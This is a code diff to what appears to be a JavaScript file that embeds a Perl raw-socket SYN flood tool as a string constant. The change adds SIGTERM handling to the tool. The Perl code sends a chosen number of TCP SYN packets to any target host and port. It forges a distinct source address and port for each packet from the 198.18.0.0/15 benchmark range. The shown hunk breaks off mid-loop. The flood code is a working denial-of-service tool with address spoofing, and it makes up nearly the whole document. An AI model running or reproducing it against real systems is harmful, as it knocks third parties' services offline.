@@ -1,13 +1,14 @@
 /**
  * A program for perl, which every Debian has, and which has raw sockets: `flood COUNT TARGET PORT` sends as many SYNs, each from an address and
- * port of its own in 198.18.0.0/15 (kept for benchmarks, RFC 2544), and prints how many the kernel took.
+ * port of its own in 198.18.0.0/15 (kept for benchmarks, RFC 2544), and prints how many the kernel took. SIGTERM ends it sooner.
  */
 const SYN_FLOOD = `
   use strict; use Socket;
-  my ($count, $target, $port) = @ARGV;
+  my ($count, $target, $port) = @ARGV; my $over = 0; $SIG{TERM} = sub { $over = 1 };
   socket(my $socket, PF_INET, SOCK_RAW, 255) or die "socket: $!";
   my $to = pack_sockaddr_in(0, inet_aton($target)); my $dst = inet_aton($target); my $sent = 0;
   for my $n (0 .. $count - 1) {
+    last if $over;
     my $src = pack("N", 0xc6120000 + ($n % 131072));
     my $tcp = pack("nnNNCCnnn", 1024 + $n % 60000, $port, $n * 7919, 0, 0x50, 2, 1024, 0, 0);
     my $sum = unpack("%32n*", $src . $dst . pack("CCn", 0, 6, 20) . $tcp);
